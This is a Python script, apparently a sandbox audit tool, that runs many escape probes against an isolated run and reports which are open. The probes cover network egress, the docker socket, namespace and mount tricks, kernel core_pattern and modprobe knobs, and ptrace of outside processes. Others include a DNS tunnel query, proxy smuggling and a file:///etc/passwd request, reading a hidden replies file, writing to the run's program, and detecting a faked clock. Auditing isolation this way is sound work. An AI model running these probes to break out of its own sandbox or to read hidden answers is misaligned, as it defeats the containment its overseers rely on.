"""A program that tries to get out of a run, all ways at once, and prints what each shows.

``python ways_out.py HOST.json [NAME ...]``: HOST.json says what the machine outside has: listening sockets that answer every byte with the word below, the
number of a process there, a file that is to be hidden. A way returns what it got; an error is what it met.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import http.client
import json
import os
import platform
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
import urllib.request
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

WORD = b"the machine outside"
HOST: dict[str, Any] = json.loads(Path(sys.argv[1]).read_text()) if __name__ == "__main__" else {}
LIBC = ctypes.CDLL(None, use_errno=True)
WAYS: dict[str, Callable[[], object]] = {}
SECONDS = 2.0


def way(name: str) -> Callable[[Callable[[], Any]], Callable[[], Any]]:
    def add(function: Callable[[], Any]) -> Callable[[], Any]:
        assert name not in WAYS
        WAYS[name] = function
        return function

    return add


def call(name: str, *arguments: Any) -> int:
    sent = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result: int = getattr(LIBC, name)(*sent)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def talk(kind: int, family: int, address: Any, protocol: int = 0) -> bytes:
    with socket.socket(family, kind, protocol) as each:
        each.settimeout(SECONDS)
        if family == UNIX and kind == UDP:
            each.bind("")  # or it could get no reply
        each.connect(address)
        each.send(b"hello")
        return each.recv(100)


def run(*words: str) -> bytes:
    done = subprocess.run(words, capture_output=True, timeout=10, check=False)
    if done.returncode:
        raise OSError(done.returncode, done.stderr.decode(errors="replace").strip()[-100:])
    return done.stdout


def ask(request: bytes, port: int = 3128) -> bytes:
    """Send bytes to the proxy, and return the head and body of what it replies."""
    with socket.create_connection(("127.0.0.1", port), SECONDS) as each:
        each.sendall(request.replace(b"\r\nHost:", b"\r\nConnection: close\r\nHost:"))
        got = b""
        with contextlib.suppress(TimeoutError):
            while part := each.recv(65_536):
                got += part
    return got


def dns(question: bytes, kind: int, address: tuple[str, int] = ("127.0.0.1", 53)) -> bytes:
    name = b"".join(bytes([len(part)]) + part for part in question.split(b".")) + b"\0"
    with socket.socket(type=socket.SOCK_DGRAM) as each:
        each.settimeout(SECONDS)
        each.sendto(b"\1\2\1\0\0\1\0\0\0\0\0\0" + name + struct.pack("!HH", kind, 1), address)
        return each.recv(600)


_name: str
_address: Any
_path: Any
TCP, UDP, V4, V6, UNIX = socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.AF_INET, socket.AF_INET6, socket.AF_UNIX
for _name, _address in {
    "an address, port 443": ("1.1.1.1", 443),
    "an address, port 53": ("1.1.1.1", 53),
    "an address, port 22": ("192.0.2.1", 22),
    "another port of the loopback": ("127.0.0.1", HOST.get("tcp", 9)),
    "another address of the loopback": ("127.0.0.2", 443),
    "the address of every interface": ("0.0.0.0", HOST.get("tcp", 9)),
    "mail, port 25 of a name": ("mail.example.com", 25),
    "FTP, port 21 of a name": ("ftp.example.com", 21),
    "a metadata service": ("169.254.169.254", 80),
    "a private network": ("10.0.0.1", 443),
}.items():
    way(f"TCP: {_name}")(partial(talk, TCP, V4, _address))
for _name, _address in {
    "an address": ("2606:4700:4700::1111", 443, 0, 0),
    "the loopback": ("::1", HOST.get("tcp6", 9), 0, 0),
    "an IPv4 address in it": ("::ffff:1.1.1.1", 443, 0, 0),
    "a link-local address": ("fe80::1", 443, 0, 1),
}.items():
    way(f"IPv6: {_name}")(partial(talk, TCP, V6, _address))
for _name, _address in {
    "DNS elsewhere": ("8.8.8.8", 53),
    "QUIC, port 443": ("1.1.1.1", 443),
    "NTP": ("162.159.200.1", 123),
    "the machine's loopback": ("127.0.0.1", HOST.get("udp", 9)),
    "multicast": ("224.0.0.251", 5353),
    "broadcast": ("255.255.255.255", 67),
}.items():
    way(f"UDP: {_name}")(partial(talk, UDP, V4, _address))
for _name, _family, _kind, _protocol, _address in (
    ("a raw socket", V4, socket.SOCK_RAW, 1, ("1.1.1.1", 0)),
    ("ping", V4, UDP, 1, ("1.1.1.1", 0)),
    ("SCTP", V4, TCP, 132, ("1.1.1.1", 443)),
    ("MPTCP", V4, TCP, 262, ("1.1.1.1", 443)),
    ("packets of an interface", 17, socket.SOCK_RAW, 3, ("lo", 0)),
    ("vsock, the machine's host", 40, TCP, 0, (2, 1024)),
    ("vsock, datagrams", 40, UDP, 0, (2, 1024)),
    ("Bluetooth", 31, TCP, 3, None),
    ("TIPC", 30, UDP, 0, None),
    ("X.25", 9, socket.SOCK_SEQPACKET, 0, None),
    ("SMC", 43, TCP, 0, None),
    ("XDP", 44, socket.SOCK_RAW, 0, None),
):
    way(f"socket: {_name}")(partial(talk, _kind, _family, _address, _protocol))
for _name, _path in {
    "an absolute path": HOST.get("unix"),
    "a relative path": HOST.get("unix_relative"),
    "a link to it": HOST.get("unix_link"),
    "datagrams": HOST.get("unix_datagrams"),
    "a folder of /run": HOST.get("unix_run"),
    "an abstract name": "\0" + HOST.get("unix_abstract", ""),
    "docker": "/run/docker.sock",
    "the bus": "/run/dbus/system_bus_socket",
    "X11": "/tmp/.X11-unix/X0",
}.items():
    _kind = UDP if _name == "datagrams" else TCP
    way(f"Unix socket: {_name}")(partial(talk, _kind, UNIX, _path))


@way("Unix socket: a hard link to it")
def hard_link() -> object:
    with tempfile.TemporaryDirectory(dir=os.path.dirname(HOST["unix"])) as folder:
        os.link(HOST["unix"], f"{folder}/link")
        return talk(TCP, UNIX, f"{folder}/link")


@way("descriptors: those that were inherited")
def inherited() -> object:
    found = []
    for number in range(3, 200):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{number}")
            found += [target] if "socket:" in target or target.startswith("/") else []
    return found or _nothing()


@way("descriptors: a parent's, by pidfd_getfd")
def taken() -> object:
    return [call("syscall", 438, call("syscall", 434, os.getppid(), 0), number, 0) for number in range(3, 20)]


@way("descriptors: a parent's, in /proc")
def listed() -> object:
    return [os.readlink(f"/proc/{os.getppid()}/fd/{number}") for number in range(3, 20)]


for _name, _path in {
    "of the first process": "/proc/1/root",
    "of a process outside": f"/proc/{HOST.get('pid', 0)}/root",
}.items():
    way(f"root: {_name}")(partial(talk, TCP, UNIX, f"{_path}{HOST.get('unix')}"))


@way("root: nsenter")
def nsenter() -> object:
    return run("nsenter", "--target", "1", "--net", "--mount", "cat", "/proc/net/tcp")


@way("root: setns to a network outside")
def setns() -> object:
    with open(f"/proc/{HOST['pid']}/ns/net") as file:
        return call("setns", file.fileno(), 0)


@way("root: setns as root of another user namespace")
def setns_as_root() -> object:
    return run("unshare", "--user", "--map-root-user", "nsenter", f"--net=/proc/{HOST['pid']}/ns/net", "true")


@way("root: unmount what covers, in another user namespace")
def unmounted() -> object:
    return run("unshare", "--user", "--map-root-user", "--mount", "umount", HOST["unix"])


@way("root: look under what covers, by a bind mount")
def looked_under() -> object:
    code = "mount --bind / /mnt && ls -la /mnt/run"
    return run("unshare", "--user", "--map-root-user", "--mount", "sh", "-c", code)


@way("root: chroot")
def chroot() -> object:
    os.chroot("/")
    return "done"


@way("root: mount")
def mount() -> object:
    return call("mount", b"none", b"/mnt", b"tmpfs", 0, b"")


@way("root: pivot_root")
def pivot() -> object:
    return call("syscall", 155 if platform.machine() == "x86_64" else 41, b"/", b"/")


@way("root: a device of a disk")
def disk() -> object:
    names = [line.split()[3] for line in Path("/proc/partitions").read_text().splitlines()[2:]]
    return open(f"/dev/{names[0]}", "rb").read(16) or _nothing()


@way("root: make a device")
def device() -> object:
    os.mknod(f"{tempfile.gettempdir()}/device-{os.getpid()}", 0o60600, os.makedev(254, 0))
    return "done"


def _nothing() -> object:
    raise OSError("nothing")


def change(path: str) -> object:
    open(path, "r+b", buffering=0).close()  # that it can be opened so is enough
    is_null = os.major(os.stat(path).st_rdev) == 1  # which takes what is written, and does nothing
    return _nothing() if is_null else path


for _name, _path in {
    "the program for core dumps": "/proc/sys/kernel/core_pattern",
    "the loader of modules": "/proc/sys/kernel/modprobe",
    "the handler of devices": "/sys/kernel/uevent_helper",
    "the magic key": "/proc/sysrq-trigger",
}.items():
    way(f"kernel: {_name}")(partial(change, _path))


@way("kernel: a tunnel")
def tunnel() -> object:
    with open("/dev/net/tun", "r+b", buffering=0) as file:
        return fcntl.ioctl(file, 0x400454CA, struct.pack("16sH14x", b"tun0", 1))


@way("kernel: an address for the loopback")
def address() -> object:
    with socket.socket() as each:
        return fcntl.ioctl(each, 0x8914, struct.pack("16sh", b"lo", 0))


@way("kernel: io_uring, which opens sockets unseen")
def io_uring() -> object:
    return call("syscall", 425, 8, bytes(120))


@way("kernel: 32-bit numbers of calls")
def other_numbers() -> object:
    return call("syscall", 0x40000000 + 41, 40, 1, 0)


@way("kernel: typing into the terminal")
def typing() -> object:
    _, terminal = os.openpty()
    return fcntl.ioctl(terminal, 0x5412, b"x")


@way("process: trace one outside")
def trace() -> object:
    return call("ptrace", 16, HOST["pid"], 0, 0)


@way("process: trace the first")
def trace_first() -> object:
    return call("ptrace", 16, 1, 0, 0)


@way("process: read the memory of one outside")
def memory() -> object:
    return open(f"/proc/{HOST['pid']}/mem", "rb").read(1)


@way("process: its variables")
def its_variables() -> object:
    return Path(f"/proc/{HOST['pid']}/environ").read_bytes()


@way("process: end one outside")
def end() -> object:
    os.kill(HOST["pid"], 0)
    return "done"


@way("process: capabilities")
def capabilities() -> object:
    rows = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    sets = [int(rows[name], 16) for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")]
    return sets if any(sets) else _nothing()


@way("process: a setuid helper")
def setuid() -> object:
    rows = dict(line.split(":\t") for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    return "setuid files count" if rows["NoNewPrivs"] != "1" else run("su", "-s", "/bin/true", "nobody")


@way("process: shared memory of System V")
def shared_memory() -> object:
    return call("shmget", HOST["shm"], 0, 0)


@way("names: data in a question")
def question() -> object:
    return dns(b"secret-in-a-name.tunnel.example.com", 1)[-4:].replace(b"\x7f\0\0\1", b"") or _nothing()


@way("names: data in an answer")
def texts() -> object:
    return struct.unpack("!H", dns(b"tunnel.example.com", 16)[6:8])[0] or _nothing()


@way("names: another server")
def another_server() -> object:
    return dns(b"example.com", 1, ("9.9.9.9", 53))


@way("names: over TCP")
def names_over_tcp() -> object:
    return talk(TCP, V4, ("127.0.0.1", 53))


for _name, _request in {
    "CONNECT to the machine's loopback": "CONNECT 127.0.0.1:{tcp} HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: 127.0.0.1:{tcp}\r\n\r\n",
    "CONNECT to a port of SSH": "CONNECT example.com:22 HTTP/1.1\r\n\r\nSSH-2.0-x\r\n",
    "the whole address of the loopback": "GET http://127.0.0.1:{tcp}/ HTTP/1.1\r\nHost: 127.0.0.1:{tcp}\r\n\r\n",
    "localhost by its name": "GET http://localhost:{tcp}/ HTTP/1.1\r\nHost: localhost:{tcp}\r\n\r\n",
    "another scheme": "GET file:///etc/passwd HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "an allowed Host behind another address": "GET http://127.0.0.1:{tcp}/ HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
    "an allowed name before an @": "GET http://allowed.test@127.0.0.1:{tcp}/ HTTP/1.1\r\nHost: x\r\n\r\n",
    "an allowed host's other port": "GET / HTTP/1.1\r\nHost: allowed.test:{tcp}\r\n\r\n",
    "a second request in a body": "POST / HTTP/1.1\r\nHost: a.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /",
    "two Hosts": "GET / HTTP/1.1\r\nHost: a.test\r\nHost: 127.0.0.1:{tcp}\r\n\r\n",
    "a WebSocket": "GET / HTTP/1.1\r\nHost: a.test\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
    "DNS over HTTPS": "GET http://dns.google/resolve?name=a.test HTTP/1.1\r\nHost: dns.google\r\n\r\n",
    "TRACE": "TRACE http://a.test/ HTTP/1.1\r\nHost: a.test\r\n\r\n",
}.items():

    @way(f"proxy: {_name}")
    def proxied(request: str = _request) -> object:
        got = ask(request.format(**HOST).encode())
        body = got.removeprefix(b"HTTP/1.1 200 Connection established\r\n\r\n")
        return got if WORD in got or b"root:" in got or b" 200 " in body.split(b"\r\n")[0] else _nothing()


@way("TLS: the Host of another behind an allowed name")
def fronting() -> object:
    context = ssl.create_default_context()
    with (
        socket.create_connection(("127.0.0.1", 443)) as raw,
        context.wrap_socket(raw, server_hostname="allowed.test") as each,
    ):
        each.sendall(f"GET / HTTP/1.1\r\nHost: 127.0.0.1:{HOST['tcp']}\r\n\r\n".encode())
        got = each.recv(1_000)
    return got if b" 403 " not in got else _nothing()


@way("TLS: a store of certificates of its own")
def own_store() -> object:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    with socket.create_connection(("127.0.0.1", 443)) as raw, context.wrap_socket(raw, server_hostname="a.test"):
        return "it was trusted"


@way("TLS: nothing is checked")
def unchecked() -> object:
    connection = http.client.HTTPSConnection("a.test", context=ssl._create_unverified_context())
    connection.request("GET", "/")
    return connection.getresponse().status == 200 or _nothing()


@way("files: what holds the replies of today")
def hidden() -> object:
    return Path(HOST["hidden"]).read_bytes() or _nothing()


@way("files: the program of the run")
def program() -> object:
    return open(HOST["program"], "ab")


# The clock: these tell the machine's, which is no news of anything (docs/run.md names them as open).
@way("clock: the program's")
def clock() -> object:
    return time.time() - HOST["now"] > -1e6 or _nothing()


@way("clock: the Date of a reply")
def date() -> object:
    try:
        reply: Any = urllib.request.urlopen("https://a.test/")
    except urllib.error.HTTPError as error:
        reply = error
    return reply.headers["date"] if "2024" not in reply.headers["date"] else _nothing()


@way("clock: the dates of a certificate")
def certificate() -> object:
    context = ssl.create_default_context()
    with (
        socket.create_connection(("127.0.0.1", 443)) as raw,
        context.wrap_socket(raw, server_hostname="a.test") as each,
    ):
        told: Any = each.getpeercert()
    dates = told["notBefore"][-8:], told["notAfter"][-8:]
    return dates if dates != ("2000 GMT", "2059 GMT") else _nothing()


@way("clock: without the library (open)")
def without_library() -> object:
    kept = {name: value for name, value in os.environ.items() if name != "LD_PRELOAD"}
    told = subprocess.run(
        (sys.executable, "-c", "import time; print(time.time())"), env=kept, capture_output=True, check=True
    )
    return float(told.stdout)


@way("clock: the times of new files (open)")
def file_times() -> object:
    with tempfile.NamedTemporaryFile() as file:
        return os.stat(file.name).st_mtime


@way("clock: the start of the machine (open)")
def boot_time() -> object:
    return next(line for line in Path("/proc/stat").read_text().splitlines() if line.startswith("btime"))


def main() -> None:
    shown = {}
    for name in sys.argv[2:] or WAYS:
        try:
            shown[name] = ["open", repr(WAYS[name]())]
        except (OSError, ValueError, TypeError, http.client.HTTPException, subprocess.SubprocessError) as error:
            shown[name] = ["closed", f"{type(error).__name__}: {error}"]
    print(json.dumps(shown))


if __name__ == "__main__":
    main()
